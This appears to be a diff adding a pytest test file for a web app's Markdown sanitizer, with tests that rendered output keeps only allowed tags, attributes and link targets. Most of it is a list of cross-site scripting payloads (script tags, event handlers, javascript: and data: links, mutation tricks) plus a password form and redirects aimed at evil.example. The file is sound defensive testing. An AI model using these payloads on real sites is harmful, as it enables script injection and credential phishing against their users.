@@ -1,0 +1,120 @@
+"""Markdown that people wrote: what it may become, and everything that it may not."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from app.web.markdown import ATTRIBUTES, TAGS, rendered
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=//evil.example><input name=password><button>go</form>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<object data=javascript:alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![x](/\\evil.example/pixel.png)",
+    '![x" onerror="alert(1)](/static/podium.svg)',
+    '[x](https://a.example "onmouseover=alert(1) x=")',
+    '[x](https://a.example"onmouseover="alert(1))',
+    "`</code><script>alert(1)</script>`",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```" onload="alert(1)\nx\n```',
+    "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
+    "<table><tr><td onclick=alert(1)>x</table>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u202e<script>alert(1)</script>",
+    "<<script>script>alert(1)<</script>/script>",
+]
+
+OWN = {"div": {"class", "role", "tabindex", "aria-label"}, "pre": {"tabindex"}}
+"""What is put around things after the cleaning."""
+
+
+class Tags(HTMLParser):
+    """All tags of a text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_that_runs_or_asks_another_site_comes_through(text: str) -> None:
+    for tag, attributes in Tags(rendered(text)).found:
+        assert tag in TAGS | OWN.keys(), text
+        known = (
+            ATTRIBUTES.get(tag, set()) | OWN.get(tag, set()) | ({"rel"} if tag == "a" else set())
+        )
+        assert attributes.keys() <= known, text
+        address = attributes.get("href") or attributes.get("src") or "/"
+        if tag == "img":
+            assert address.startswith("/"), text
+            assert address[1:2] not in ("/", "\\"), text
+        else:
+            assert address.startswith(("/", "https://", "http://", "mailto:")), text
+
+
+def test_links_say_nothing_about_where_they_were() -> None:
+    assert rendered("[x](https://a.example/b)") == (
+        '<p><a href="https://a.example/b" rel="nofollow noopener">x</a></p>\n'
+    )
+
+
+def test_pictures_come_from_this_host_only() -> None:
+    assert rendered("![ours](/static/podium.svg)") == (
+        '<p><img src="/static/podium.svg" alt="ours"></p>\n'
+    )
+    assert "src" not in rendered("![theirs](https://evil.example/pixel.png)")
+
+
+def test_headings_stand_below_the_one_of_the_page_and_leave_none_out() -> None:
+    html = rendered("### a\n\n# b\n\n#### c\n\n###### d")
+    assert [tag for tag, _ in Tags(html).found] == ["h2", "h2", "h3", "h4"]
+
+
+def test_tables_and_code_scroll_by_themselves() -> None:
+    html = rendered("|a|\n|-|\n|1|\n\n    code")
+    assert '<div class="scroll" role="region" tabindex="0" aria-label="Table"><table>' in html
+    assert html.count("</table></div>") == 1
+    assert '<pre tabindex="0"><code>code' in html
+    assert rendered("`<table>`") == "<p><code>&lt;table&gt;</code></p>\n"
+
+
+def test_a_text_that_is_nested_without_end_becomes_no_endless_page() -> None:
+    assert rendered("> " * 5_000 + "deep").count("<blockquote>") == 20
+    assert rendered("[" * 5_000) == f"<p>{'[' * 5_000}</p>\n"
